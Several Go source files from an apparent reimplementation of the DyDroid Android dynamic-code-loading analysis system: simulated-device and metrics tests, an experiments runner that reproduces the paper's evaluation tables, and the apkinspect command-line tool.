	errc := make(chan error, 1)
	go func() {
		fmt.Fprintf(os.Stderr, "dydroidd: coordinating %d nodes on %s (probe=%s eject-after=%d)\n",
			len(o.Nodes), ln.Addr(), o.ProbeInterval, o.ProbeFailures)
		if o.Ready != nil {
			o.Ready(ln.Addr().String())
		}
		errc <- httpSrv.Serve(ln)
	}()

	select {
	case err := <-errc:
		return err
	case <-ctx.Done():
	}
	fmt.Fprintln(os.Stderr, "dydroidd: coordinator draining...")
	shutdownCtx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := httpSrv.Shutdown(shutdownCtx); err != nil && !errors.Is(err, http.ErrServerClosed) {
		return err
	}
	fmt.Fprintln(os.Stderr, "dydroidd: coordinator stopped")
	return nil
}
