package android

import (
	"errors"
	"math/rand"
	"reflect"
	"testing"
	"testing/quick"
	"time"

	"github.com/dydroid/dydroid/internal/apk"
)

func testAPK(pkg string, perms ...string) *apk.APK {
	m := apk.Manifest{
		Package: pkg,
		MinSDK:  16,
		Application: apk.Application{
			Activities: []apk.Component{{Name: pkg + ".Main", Main: true}},
		},
	}
	for _, p := range perms {
		m.AddPermission(p)
	}
	return &apk.APK{
		Manifest:   m,
		Dex:        []byte("dexbytes"),
		Assets:     map[string][]byte{"cfg.json": []byte("{}")},
		NativeLibs: map[string][]byte{"libnative.so": {1, 2}},
	}
}

func TestDeviceClockAndToggles(t *testing.T) {
	d := NewDevice()
	t0 := d.Now()
	d.AdvanceClock(time.Hour)
	if got := d.Now().Sub(t0); got != time.Hour {
		t.Fatalf("AdvanceClock moved %v, want 1h", got)
	}
	past := time.Date(2015, 1, 1, 0, 0, 0, 0, time.UTC)
	d.SetClock(past)
	if !d.Now().Equal(past) {
		t.Fatal("SetClock did not apply")
	}

	if !d.NetworkAvailable() {
		t.Fatal("fresh device should have connectivity")
	}
	d.SetAirplaneMode(true)
	if d.NetworkAvailable() {
		t.Fatal("airplane mode should disable connectivity (WiFi forced off)")
	}
	d.SetWiFi(true) // the paper's "Airplane mode/WiFi ON" configuration
	if !d.NetworkAvailable() {
		t.Fatal("WiFi re-enabled in airplane mode should restore connectivity")
	}
	d.SetLocationEnabled(false)
	if d.LocationEnabled() {
		t.Fatal("location toggle did not apply")
	}
}

func TestStorageInternalOwnership(t *testing.T) {
	d := NewDevice()
	st := d.Storage
	path := InternalDir("com.victim") + "files/secret.dex"
	if err := st.WriteFile(path, []byte("v1"), "com.victim", false); err != nil {
		t.Fatalf("owner write: %v", err)
	}
	err := st.WriteFile(path, []byte("evil"), "com.attacker", false)
	if !errors.Is(err, ErrPermission) {
		t.Fatalf("foreign internal write: err = %v, want ErrPermission", err)
	}
	// Reads across apps succeed (pre-N world-readable app dirs).
	data, err := st.ReadFile(path)
	if err != nil || string(data) != "v1" {
		t.Fatalf("read = %q, %v", data, err)
	}
}

func TestStorageExternalAPILevelSemantics(t *testing.T) {
	// Pre-KitKat: any app writes external storage.
	d := NewDevice(WithAPILevel(18))
	if err := d.Storage.WriteFile(ExternalRoot+"im_sdk/jar/x.jar", []byte("a"), "any.app", false); err != nil {
		t.Fatalf("pre-KitKat external write: %v", err)
	}
	// KitKat+: requires the permission.
	d2 := NewDevice(WithAPILevel(19))
	err := d2.Storage.WriteFile(ExternalRoot+"x.jar", []byte("a"), "any.app", false)
	if !errors.Is(err, ErrPermission) {
		t.Fatalf("KitKat external write without perm: err = %v", err)
	}
	if err := d2.Storage.WriteFile(ExternalRoot+"x.jar", []byte("a"), "any.app", true); err != nil {
		t.Fatalf("KitKat external write with perm: %v", err)
	}
}

func TestStorageQuota(t *testing.T) {
	d := NewDevice(WithStorageQuota(10))
	st := d.Storage
	if err := st.WriteFile(ExternalRoot+"a", make([]byte, 8), "app", false); err != nil {
		t.Fatal(err)
	}
	err := st.WriteFile(ExternalRoot+"b", make([]byte, 8), "app", false)
	if !errors.Is(err, ErrNoSpace) {
		t.Fatalf("quota overflow: err = %v, want ErrNoSpace", err)
	}
	// Replacing a file accounts for the freed bytes.
	if err := st.WriteFile(ExternalRoot+"a", make([]byte, 10), "app", false); err != nil {
		t.Fatalf("replace within quota: %v", err)
	}
	if got := st.Used(); got != 10 {
		t.Fatalf("Used() = %d, want 10", got)
	}
	st.RemovePrefix(ExternalRoot)
	if got := st.Used(); got != 0 {
		t.Fatalf("Used() after RemovePrefix = %d, want 0", got)
	}
}

func TestStorageDeleteRename(t *testing.T) {
	d := NewDevice()
	st := d.Storage
	p := InternalDir("com.app") + "cache/ad1.dex"
	if err := st.WriteFile(p, []byte("x"), "com.app", false); err != nil {
		t.Fatal(err)
	}
	if err := st.Delete(p, "other.app"); !errors.Is(err, ErrPermission) {
		t.Fatalf("foreign delete: err = %v", err)
	}
	np := InternalDir("com.app") + "cache/ad2.dex"
	if err := st.Rename(p, np, "com.app", false); err != nil {
		t.Fatalf("rename: %v", err)
	}
	if st.Exists(p) || !st.Exists(np) {
		t.Fatal("rename did not move the file")
	}
	if err := st.Delete(np, "com.app"); err != nil {
		t.Fatal(err)
	}
	if err := st.Delete(np, "com.app"); !errors.Is(err, ErrNotExist) {
		t.Fatalf("double delete: err = %v", err)
	}
}

func TestStorageRenameReplacesQuotaAccounting(t *testing.T) {
	d := NewDevice(WithStorageQuota(100))
	st := d.Storage
	if err := st.WriteFile(ExternalRoot+"a", make([]byte, 30), "app", false); err != nil {
		t.Fatal(err)
	}
	if err := st.WriteFile(ExternalRoot+"b", make([]byte, 40), "app", false); err != nil {
		t.Fatal(err)
	}
	if err := st.Rename(ExternalRoot+"a", ExternalRoot+"b", "app", false); err != nil {
		t.Fatal(err)
	}
	if got := st.Used(); got != 30 {
		t.Fatalf("Used() after replacing rename = %d, want 30", got)
	}
}

func TestOwnerOfInternalPath(t *testing.T) {
	tests := []struct {
		path, want string
	}{
		{"/data/data/com.foo/cache/x.dex", "com.foo"},
		{"/data/data/com.foo", "com.foo"},
		{"/mnt/sdcard/x", ""},
		{"/system/lib/libc.so", ""},
	}
	for _, tc := range tests {
		if got := OwnerOfInternalPath(tc.path); got != tc.want {
			t.Fatalf("OwnerOfInternalPath(%q) = %q, want %q", tc.path, got, tc.want)
		}
	}
}

func TestPackageManagerInstall(t *testing.T) {
	d := NewDevice()
	app, err := d.Packages.Install(testAPK("com.example.app", "android.permission.INTERNET"))
	if err != nil {
		t.Fatalf("Install: %v", err)
	}
	if app.DataDir != "/data/data/com.example.app/" {
		t.Fatalf("DataDir = %q", app.DataDir)
	}
	// Native lib extracted into app lib dir and owned by the app.
	owner, size, err := d.Storage.Stat(app.DataDir + "lib/libnative.so")
	if err != nil || owner != "com.example.app" || size != 2 {
		t.Fatalf("lib stat = %q/%d/%v", owner, size, err)
	}
	// Asset extracted.
	if !d.Storage.Exists(app.DataDir + "assets/cfg.json") {
		t.Fatal("asset not extracted")
	}
	// APK copied.
	if !d.Storage.Exists("/data/app/com.example.app.apk") {
		t.Fatal("apk not stored")
	}
	// Duplicate install rejected.
	if _, err := d.Packages.Install(testAPK("com.example.app")); err == nil {
		t.Fatal("duplicate install accepted")
	}
	pkgs := d.Packages.InstalledPackages()
	if len(pkgs) != 1 || pkgs[0] != "com.example.app" {
		t.Fatalf("InstalledPackages = %v", pkgs)
	}
	if err := d.Packages.Uninstall("com.example.app"); err != nil {
		t.Fatal(err)
	}
	if d.Storage.Exists(app.DataDir + "lib/libnative.so") {
		t.Fatal("uninstall left data behind")
	}
	if err := d.Packages.Uninstall("com.example.app"); err == nil {
		t.Fatal("double uninstall accepted")
	}
}

func TestPtraceRequiresRoot(t *testing.T) {
	d := NewDevice()
	victim := d.StartProcess("com.tencent.mm", 10001)
	attacker := d.StartProcess("com.evil", 10002)
	if err := d.PtraceAttach(attacker, victim.PID); err == nil {
		t.Fatal("non-root cross-package ptrace allowed")
	}
	root := d.StartProcess("com.evil", 0)
	if err := d.PtraceAttach(root, victim.PID); err != nil {
		t.Fatalf("root ptrace: %v", err)
	}
	evs := d.PtraceEvents()
	if len(evs) != 1 || evs[0].TraceePkg != "com.tencent.mm" {
		t.Fatalf("PtraceEvents = %+v", evs)
	}
	if err := d.PtraceAttach(root, 99999); err == nil {
		t.Fatal("ptrace of missing pid allowed")
	}
	d.ResetRuntimeState()
	if len(d.PtraceEvents()) != 0 || d.FindProcessByPackage("com.evil") != nil {
		t.Fatal("ResetRuntimeState did not clear")
	}
}

func TestFindProcessByPackageDeterministic(t *testing.T) {
	d := NewDevice()
	p1 := d.StartProcess("com.app", 10001)
	d.StartProcess("com.app", 10001)
	if got := d.FindProcessByPackage("com.app"); got == nil || got.PID != p1.PID {
		t.Fatalf("FindProcessByPackage returned %+v, want pid %d", got, p1.PID)
	}
}

func TestCatalogCoverage(t *testing.T) {
	if len(AllDataTypes) != 18 {
		t.Fatalf("AllDataTypes has %d entries, want 18 (Table X)", len(AllDataTypes))
	}
	counts := map[Category]int{}
	for _, dt := range AllDataTypes {
		cat, ok := CategoryOf[dt]
		if !ok {
			t.Fatalf("data type %q has no category", dt)
		}
		counts[cat]++
	}
	want := map[Category]int{
		CatLocation: 1, CatPhoneIdentity: 3, CatUserIdentity: 2,
		CatUsagePattern: 2, CatContentProvider: 10,
	}
	for cat, n := range want {
		if counts[cat] != n {
			t.Fatalf("category %s has %d types, want %d", cat, counts[cat], n)
		}
	}
	// Every non-CP type must have a source API; every CP type a URI.
	apiTypes := map[DataType]bool{}
	for _, dt := range SourceAPIs {
		apiTypes[dt] = true
	}
	uriTypes := map[DataType]bool{}
	for _, dt := range ProviderURIs {
		uriTypes[dt] = true
	}
	for _, dt := range AllDataTypes {
		if CategoryOf[dt] == CatContentProvider {
			if !uriTypes[dt] {
				t.Fatalf("CP type %q has no provider URI", dt)
			}
		} else if !apiTypes[dt] {
			t.Fatalf("type %q has no source API", dt)
		}
	}
}

func TestProviderTypePrefixMatch(t *testing.T) {
	if dt, ok := ProviderType("content://sms/inbox"); !ok || dt != DTSMS {
		t.Fatalf("ProviderType(sms/inbox) = %v, %v", dt, ok)
	}
	if dt, ok := ProviderType("content://settings"); !ok || dt != DTSettings {
		t.Fatalf("ProviderType(settings) = %v, %v", dt, ok)
	}
	if _, ok := ProviderType("content://smsmsms"); ok {
		t.Fatal("ProviderType matched a non-prefix")
	}
	if _, ok := ProviderType("content://unknown"); ok {
		t.Fatal("ProviderType matched unknown URI")
	}
}

func TestPropertyStorageAccounting(t *testing.T) {
	// Random write/replace/delete/rename sequences keep Used() equal to
	// the sum of stored file sizes.
	cfg := &quick.Config{
		MaxCount: 40,
		Values: func(vals []reflect.Value, r *rand.Rand) {
			n := 1 + r.Intn(30)
			ops := make([]storageOp, n)
			for i := range ops {
				ops[i] = storageOp{
					kind: r.Intn(3),
					a:    r.Intn(6),
					b:    r.Intn(6),
					size: r.Intn(200),
				}
			}
			vals[0] = reflect.ValueOf(ops)
		},
	}
	prop := func(ops []storageOp) bool {
		d := NewDevice()
		st := d.Storage
		path := func(i int) string { return ExternalRoot + "f" + string(rune('a'+i)) }
		for _, op := range ops {
			switch op.kind {
			case 0:
				_ = st.WriteFile(path(op.a), make([]byte, op.size), "app", false)
			case 1:
				_ = st.Delete(path(op.a), "app")
			case 2:
				_ = st.Rename(path(op.a), path(op.b), "app", false)
			}
		}
		var want int64
		for _, p := range st.List(ExternalRoot) {
			_, size, err := st.Stat(p)
			if err != nil {
				return false
			}
			want += size
		}
		return st.Used() == want
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

type storageOp struct {
	kind, a, b, size int
}
