package metrics

import (
	"strings"
	"sync"
	"testing"
	"time"
)

func TestCountersConcurrent(t *testing.T) {
	r := New()
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 1000; i++ {
				r.Add("apps", 1)
			}
		}()
	}
	wg.Wait()
	if got := r.Snapshot().Counters["apps"]; got != 8000 {
		t.Fatalf("counter = %d, want 8000", got)
	}
}

func TestHistogramStats(t *testing.T) {
	r := New()
	for _, d := range []time.Duration{
		time.Millisecond, 2 * time.Millisecond, 4 * time.Millisecond, 100 * time.Millisecond,
	} {
		r.Observe("stage.dynamic", d)
	}
	st := r.Snapshot().Stages["stage.dynamic"]
	if st.Count != 4 {
		t.Fatalf("count = %d, want 4", st.Count)
	}
	if want := 107 * time.Millisecond; st.Total != want {
		t.Fatalf("total = %s, want %s", st.Total, want)
	}
	if st.Min != time.Millisecond || st.Max != 100*time.Millisecond {
		t.Fatalf("min/max = %s/%s", st.Min, st.Max)
	}
	if st.Mean != st.Total/4 {
		t.Fatalf("mean = %s", st.Mean)
	}
	if st.P50 > st.P90 || st.P90 > st.P99 || st.P99 > st.Max {
		t.Fatalf("quantiles not monotone: p50=%s p90=%s p99=%s max=%s",
			st.P50, st.P90, st.P99, st.Max)
	}
	if st.P50 < st.Min {
		t.Fatalf("p50 %s below min %s", st.P50, st.Min)
	}
}

func TestTimeHelperRecords(t *testing.T) {
	r := New()
	stop := r.Time("stage.unpack")
	stop()
	st := r.Snapshot().Stages["stage.unpack"]
	if st.Count != 1 {
		t.Fatalf("count = %d, want 1", st.Count)
	}
}

func TestNilRegistryIsNoOp(t *testing.T) {
	var r *Registry
	r.Add("x", 1)
	r.Observe("y", time.Second)
	r.Time("z")()
	snap := r.Snapshot()
	if len(snap.Counters) != 0 || len(snap.Stages) != 0 {
		t.Fatalf("nil registry snapshot not empty: %+v", snap)
	}
}

func TestSnapshotString(t *testing.T) {
	r := New()
	r.Add("status.exercised", 3)
	r.Observe("stage.unpack", 5*time.Millisecond)
	out := r.Snapshot().String()
	for _, want := range []string{"status.exercised", "stage.unpack", "p90"} {
		if !strings.Contains(out, want) {
			t.Fatalf("snapshot rendering missing %q:\n%s", want, out)
		}
	}
}

func TestObserveConcurrent(t *testing.T) {
	r := New()
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 500; i++ {
				r.Observe("s", time.Duration(w+1)*time.Microsecond)
			}
		}(w)
	}
	wg.Wait()
	if st := r.Snapshot().Stages["s"]; st.Count != 4000 {
		t.Fatalf("count = %d, want 4000", st.Count)
	}
}

func TestCounterPointRead(t *testing.T) {
	r := New()
	if got := r.Counter("absent"); got != 0 {
		t.Fatalf("absent counter = %d", got)
	}
	r.Add("scan.cached", 2)
	r.Add("scan.cached", 3)
	if got := r.Counter("scan.cached"); got != 5 {
		t.Fatalf("counter = %d, want 5", got)
	}
	var nilReg *Registry
	if got := nilReg.Counter("x"); got != 0 {
		t.Fatalf("nil registry counter = %d", got)
	}
}

func TestHistSnapshotPointRead(t *testing.T) {
	r := New()
	if got := r.HistSnapshot("absent"); got.Count != 0 {
		t.Fatalf("absent histogram count = %d", got.Count)
	}
	r.Observe("stage.unpack", 2*time.Millisecond)
	r.Observe("stage.unpack", 6*time.Millisecond)
	st := r.HistSnapshot("stage.unpack")
	if st.Count != 2 || st.Total != 8*time.Millisecond {
		t.Fatalf("point read = %+v, want count 2 total 8ms", st)
	}
	if full := r.Snapshot().Stages["stage.unpack"]; full != st {
		t.Fatalf("point read %+v differs from snapshot %+v", st, full)
	}
	var nilReg *Registry
	if got := nilReg.HistSnapshot("x"); got.Count != 0 {
		t.Fatal("nil registry HistSnapshot must be zero")
	}
}

func TestWritePrometheus(t *testing.T) {
	r := New()
	r.Add("service.scan.requests", 7)
	r.Add("status.no-dcl", 2)
	r.Observe("stage.unpack", 3*time.Millisecond)
	r.Observe("stage.unpack", 3*time.Millisecond)
	var b strings.Builder
	r.WritePrometheus(&b)
	out := b.String()
	for _, want := range []string{
		"# TYPE dydroid_service_scan_requests_total counter",
		"dydroid_service_scan_requests_total 7",
		"dydroid_status_no_dcl_total 2",
		"# TYPE dydroid_stage_unpack_seconds histogram",
		`dydroid_stage_unpack_seconds_bucket{le="+Inf"} 2`,
		"dydroid_stage_unpack_seconds_sum 0.006",
		"dydroid_stage_unpack_seconds_count 2",
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("prometheus exposition missing %q:\n%s", want, out)
		}
	}
	// Buckets are cumulative: the 4.096ms bucket holds both observations.
	if !strings.Contains(out, `dydroid_stage_unpack_seconds_bucket{le="0.004096"} 2`) {
		t.Fatalf("cumulative bucket missing:\n%s", out)
	}
	var nilReg *Registry
	nilReg.WritePrometheus(&b) // must not panic
}

func TestGauges(t *testing.T) {
	r := New()
	if got := r.Gauge("queue.len"); got != 0 {
		t.Fatalf("unset gauge = %d, want 0", got)
	}
	r.SetGauge("queue.len", 5)
	r.AddGauge("queue.len", -2)
	r.AddGauge("heap.bytes", 1024)
	if got := r.Gauge("queue.len"); got != 3 {
		t.Fatalf("queue.len = %d, want 3", got)
	}
	snap := r.Snapshot()
	if snap.Gauges["queue.len"] != 3 || snap.Gauges["heap.bytes"] != 1024 {
		t.Fatalf("snapshot gauges = %v", snap.Gauges)
	}
	if out := snap.String(); !strings.Contains(out, "gauge") || !strings.Contains(out, "queue.len") {
		t.Fatalf("snapshot string missing gauge section:\n%s", out)
	}

	var nilReg *Registry
	nilReg.SetGauge("x", 1)
	nilReg.AddGauge("x", 1)
	if nilReg.Gauge("x") != 0 {
		t.Fatal("nil registry gauge should read 0")
	}
}

func TestGaugesConcurrent(t *testing.T) {
	r := New()
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 1000; j++ {
				r.AddGauge("g", 1)
				r.AddGauge("g", -1)
			}
		}()
	}
	wg.Wait()
	if got := r.Gauge("g"); got != 0 {
		t.Fatalf("gauge after balanced adds = %d, want 0", got)
	}
}

func TestWritePrometheusGauge(t *testing.T) {
	r := New()
	r.SetGauge("trace.store.len", 42)
	var b strings.Builder
	r.WritePrometheus(&b)
	out := b.String()
	for _, want := range []string{
		"# TYPE dydroid_trace_store_len gauge",
		"dydroid_trace_store_len 42",
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("prometheus exposition missing %q:\n%s", want, out)
		}
	}
}

func TestExportedBucketScheme(t *testing.T) {
	for _, d := range []time.Duration{0, time.Microsecond, 3 * time.Millisecond, time.Hour} {
		i := BucketOf(d)
		if i < 0 || i >= NumBuckets {
			t.Fatalf("BucketOf(%v) = %d out of range", d, i)
		}
		if d > 0 && d > BucketBound(i) && i < NumBuckets-1 {
			t.Fatalf("BucketOf(%v) = %d but bound is only %v", d, i, BucketBound(i))
		}
	}
	if BucketBound(0) != time.Microsecond {
		t.Fatalf("BucketBound(0) = %v", BucketBound(0))
	}
}
