// Package experiments regenerates every table and figure of the paper's
// evaluation (§V): it generates the calibrated marketplace, runs the full
// DyDroid pipeline over every app (in parallel), replays the malware apps
// under the four Table VIII device configurations, and renders each
// table with the paper-reported values alongside the measured ones.
package experiments

import (
	"fmt"
	"runtime"
	"sync"
	"time"

	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/corpus"
	"github.com/dydroid/dydroid/internal/droidnative"
)

// Config controls a measurement run.
type Config struct {
	// Seed drives corpus generation and fuzzing.
	Seed int64
	// Scale shrinks the marketplace (1.0 = the paper's 58,739 apps).
	Scale float64
	// Workers is the pipeline parallelism (default: GOMAXPROCS).
	Workers int
	// TrainPerFamily sets DroidNative training samples per family
	// (default 3; the paper used ~65).
	TrainPerFamily int
	// MonkeyEvents is the per-app fuzz budget (default 25).
	MonkeyEvents int
	// Progress, when non-nil, receives periodic progress callbacks.
	Progress func(done, total int)
}

// AppRecord pairs store metadata with the pipeline's findings for one app.
type AppRecord struct {
	Meta   corpus.Metadata
	Result *core.AppResult
	// ReplayLoaded maps each Table VIII configuration to the set of
	// malicious file paths still loaded under it (malware apps only).
	ReplayLoaded map[core.ReplayConfig]map[string]bool
	// MalwarePaths is the set of paths DroidNative flagged for this app.
	MalwarePaths map[string]bool
}

// Results is the complete measurement output.
type Results struct {
	Config  Config
	Scale   float64
	Records []*AppRecord
	// Elapsed is the wall-clock measurement time.
	Elapsed time.Duration
}

// Run executes the measurement.
func Run(cfg Config) (*Results, error) {
	if cfg.Scale <= 0 {
		cfg.Scale = 1.0
	}
	if cfg.Workers <= 0 {
		cfg.Workers = runtime.GOMAXPROCS(0)
	}
	start := time.Now()
	store, err := corpus.Generate(corpus.Config{Seed: cfg.Seed, Scale: cfg.Scale})
	if err != nil {
		return nil, fmt.Errorf("experiments: %w", err)
	}
	clf, err := store.TrainingSet(cfg.TrainPerFamily)
	if err != nil {
		return nil, fmt.Errorf("experiments: %w", err)
	}

	records := make([]*AppRecord, len(store.Apps))
	var wg sync.WaitGroup
	jobs := make(chan int)
	errCh := make(chan error, cfg.Workers)
	var done int64
	var doneMu sync.Mutex

	worker := func() {
		defer wg.Done()
		an := newAnalyzer(cfg, store, clf)
		for i := range jobs {
			rec, err := analyzeOne(an, store, store.Apps[i])
			if err != nil {
				select {
				case errCh <- fmt.Errorf("experiments: %s: %w", store.Apps[i].Spec.Pkg, err):
				default:
				}
				continue
			}
			records[i] = rec
			if cfg.Progress != nil {
				doneMu.Lock()
				done++
				d := int(done)
				doneMu.Unlock()
				if d%500 == 0 || d == len(store.Apps) {
					cfg.Progress(d, len(store.Apps))
				}
			}
		}
	}
	for w := 0; w < cfg.Workers; w++ {
		wg.Add(1)
		go worker()
	}
	for i := range store.Apps {
		jobs <- i
	}
	close(jobs)
	wg.Wait()
	select {
	case err := <-errCh:
		return nil, err
	default:
	}

	return &Results{
		Config:  cfg,
		Scale:   cfg.Scale,
		Records: records,
		Elapsed: time.Since(start),
	}, nil
}

func newAnalyzer(cfg Config, store *corpus.Store, clf *droidnative.Classifier) *core.Analyzer {
	return core.NewAnalyzer(core.Options{
		Seed:         cfg.Seed,
		MonkeyEvents: cfg.MonkeyEvents,
		Classifier:   clf,
		Network:      store.Network,
		SetupDevice:  store.SetupDevice,
	})
}

// analyzeOne runs the pipeline for one app and, when malware is found,
// the four replay configurations.
func analyzeOne(an *core.Analyzer, store *corpus.Store, app *corpus.StoreApp) (*AppRecord, error) {
	data, err := store.BuildAPK(app)
	if err != nil {
		return nil, err
	}
	res, err := an.AnalyzeAPK(data)
	if err != nil {
		return nil, err
	}
	rec := &AppRecord{Meta: app.Meta, Result: res}
	if len(res.Malware) > 0 {
		rec.MalwarePaths = make(map[string]bool, len(res.Malware))
		for _, hit := range res.Malware {
			rec.MalwarePaths[hit.Path] = true
		}
		rec.ReplayLoaded = make(map[core.ReplayConfig]map[string]bool, len(core.AllReplayConfigs))
		for _, rc := range core.AllReplayConfigs {
			loaded, err := an.ReplayUnderConfig(data, rc, app.Meta.ReleaseDate)
			if err != nil {
				return nil, err
			}
			rec.ReplayLoaded[rc] = loaded
		}
	}
	// Drop intercepted binaries after static analysis to keep full-scale
	// runs memory-light; the measurement only needs the annotations.
	for _, ev := range res.Events {
		ev.Intercepted = nil
	}
	return rec, nil
}
