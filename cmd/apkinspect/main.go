// Command apkinspect is the baksmali/apktool analogue: it unpacks an APK
// archive, prints the manifest and content summary, and optionally dumps
// the smali IR of a class or the disassembly of a native library.
//
// Usage:
//
//	apkinspect app.apk                 # summary
//	apkinspect -smali com.foo.Main app.apk
//	apkinspect -lib libshell.so app.apk
//	apkinspect -fixed app.apk          # use the decompiler version that
//	                                   # survives anti-decompilation
//
// The trace subcommand renders analysis span trees as indented timing
// trees — from a daemon trace store (dydroidd -traces DIR) or from a
// JSONL file written by experiments -trace:
//
//	apkinspect trace -store DIR <digest>
//	apkinspect trace -url http://coordinator:8437 <digest>   # stitched cross-node tree
//	apkinspect trace traces.jsonl
//
// The fleet subcommand merges per-shard measurement snapshots (the
// fleet.json files sharded experiments runs write, or saved /v1/fleet
// responses from dydroidd) into one paper-style report:
//
//	apkinspect fleet merge shard1/fleet.json shard2/fleet.json
//	apkinspect fleet merge -o merged.json shard*/fleet.json
//
// The cluster subcommand asks a dydroidd coordinator for per-node
// health, ring ownership shares, queue gauges, and snapshot versions:
//
//	apkinspect cluster status http://coordinator:8437
//	apkinspect cluster status -json http://coordinator:8437
//
// The profile subcommand reads the fleet's continuous-profiling ring —
// the window index, one window's top-functions table, or the flat
// self-time regression between two windows (possibly from different
// nodes, via the coordinator's federated view):
//
//	apkinspect profile list -url http://daemon:8437
//	apkinspect profile top -url http://daemon:8437 w000003
//	apkinspect profile diff -url http://coordinator:8437 w000002@node1 w000005@node2
//	apkinspect profile top saved-window.json
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"sort"
	"strings"
	"time"

	"github.com/dydroid/dydroid/internal/apktool"
	"github.com/dydroid/dydroid/internal/nativebin"
	"github.com/dydroid/dydroid/internal/obfuscation"
	"github.com/dydroid/dydroid/internal/trace"
)

func main() {
	if len(os.Args) > 1 && os.Args[1] == "trace" {
		if err := runTrace(os.Stdout, os.Args[2:]); err != nil {
			fmt.Fprintln(os.Stderr, "apkinspect:", err)
			os.Exit(1)
		}
		return
	}
	if len(os.Args) > 1 && os.Args[1] == "fleet" {
		if err := runFleet(os.Stdout, os.Args[2:]); err != nil {
			fmt.Fprintln(os.Stderr, "apkinspect:", err)
			os.Exit(1)
		}
		return
	}
	if len(os.Args) > 1 && os.Args[1] == "cluster" {
		if err := runCluster(os.Stdout, os.Args[2:]); err != nil {
			fmt.Fprintln(os.Stderr, "apkinspect:", err)
			os.Exit(1)
		}
		return
	}
	if len(os.Args) > 1 && os.Args[1] == "profile" {
		if err := runProfile(os.Stdout, os.Args[2:]); err != nil {
			fmt.Fprintln(os.Stderr, "apkinspect:", err)
			os.Exit(1)
		}
		return
	}
	smali := flag.String("smali", "", "print the smali IR of this class")
	lib := flag.String("lib", "", "print the disassembly of this native library")
	fixed := flag.Bool("fixed", false, "use the fixed decompiler version")
	flag.Parse()
	if flag.NArg() != 1 {
		fmt.Fprintln(os.Stderr, "usage: apkinspect [flags] app.apk | apkinspect trace [-store DIR] <digest|file.jsonl>")
		os.Exit(2)
	}
	if err := run(os.Stdout, flag.Arg(0), *smali, *lib, *fixed); err != nil {
		fmt.Fprintln(os.Stderr, "apkinspect:", err)
		os.Exit(1)
	}
}

// runTrace renders stored span trees. With -store the argument is a
// signing digest resolved against a dydroidd trace store; with -url it
// is a digest fetched live from a daemon or coordinator (a coordinator
// answers with the stitched cross-node tree: its route/failover spans
// with the owning worker's analysis subtree grafted underneath);
// otherwise it is a JSONL file of traces (experiments -trace output),
// all rendered in order.
func runTrace(w io.Writer, args []string) error {
	fs := flag.NewFlagSet("trace", flag.ContinueOnError)
	storeDir := fs.String("store", "", "trace store directory (argument is a digest)")
	baseURL := fs.String("url", "", "daemon or coordinator base URL (argument is a digest, fetched from /v1/trace)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if fs.NArg() != 1 {
		return fmt.Errorf("usage: apkinspect trace [-store DIR | -url URL] <digest|file.jsonl>")
	}
	arg := fs.Arg(0)
	if *baseURL != "" {
		return renderRemoteTrace(w, *baseURL, arg)
	}
	if *storeDir != "" {
		st, err := trace.OpenStore(trace.StoreOptions{Dir: *storeDir})
		if err != nil {
			return err
		}
		t, err := st.Get(arg)
		if err != nil {
			return err
		}
		trace.Render(w, t)
		return nil
	}
	f, err := os.Open(arg)
	if err != nil {
		return err
	}
	defer f.Close()
	traces, err := trace.DecodeJSONL(f)
	if err != nil {
		return err
	}
	if len(traces) == 0 {
		return fmt.Errorf("%s holds no traces", arg)
	}
	for i, t := range traces {
		if i > 0 {
			fmt.Fprintln(w)
		}
		trace.Render(w, t)
	}
	return nil
}

// renderRemoteTrace fetches /v1/trace/{digest} from a live daemon or
// coordinator and renders the tree, naming the node that stitched it
// when the answer carries one.
func renderRemoteTrace(w io.Writer, base, digest string) error {
	base = strings.TrimRight(base, "/")
	if !strings.Contains(base, "://") {
		base = "http://" + base
	}
	client := &http.Client{Timeout: 30 * time.Second}
	resp, err := client.Get(base + "/v1/trace/" + digest)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 16<<20))
	if err != nil {
		return err
	}
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("trace %s: status %d: %s", digest, resp.StatusCode, body)
	}
	var t trace.Trace
	if err := json.Unmarshal(body, &t); err != nil {
		return fmt.Errorf("decode trace: %w", err)
	}
	if node := resp.Header.Get("X-Dydroid-Node"); node != "" {
		fmt.Fprintf(w, "worker subtree from %s\n", node)
	}
	trace.Render(w, &t)
	return nil
}

func run(w io.Writer, path, smali, lib string, fixed bool) error {
	data, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	tool := apktool.Tool{}
	if fixed {
		tool.Version = apktool.FixedVersion
	}
	u, err := tool.Unpack(data)
	if err != nil {
		return err
	}
	switch {
	case smali != "":
		src, ok := u.Smali()[smali]
		if !ok {
			return fmt.Errorf("no class %s (have %d classes)", smali, len(u.Smali()))
		}
		fmt.Fprint(w, src)
		return nil
	case lib != "":
		libBytes, ok := u.APK.NativeLibs[lib]
		if !ok {
			return fmt.Errorf("no native library %s", lib)
		}
		l, err := nativebin.Decode(libBytes)
		if err != nil {
			return err
		}
		fmt.Fprint(w, nativebin.Disassemble(l))
		return nil
	}

	m := u.APK.Manifest
	fmt.Fprintf(w, "package:    %s (versionCode %d, minSdk %d)\n", m.Package, m.VersionCode, m.MinSDK)
	if m.Application.Name != "" {
		fmt.Fprintf(w, "app class:  %s  <- runs before all components\n", m.Application.Name)
	}
	for _, p := range m.Permissions {
		fmt.Fprintf(w, "permission: %s\n", p.Name)
	}
	for _, c := range m.Components() {
		fmt.Fprintf(w, "component:  %-9s %s\n", c.Kind, c.Name)
	}
	var classes []string
	for name := range u.Smali() {
		classes = append(classes, name)
	}
	sort.Strings(classes)
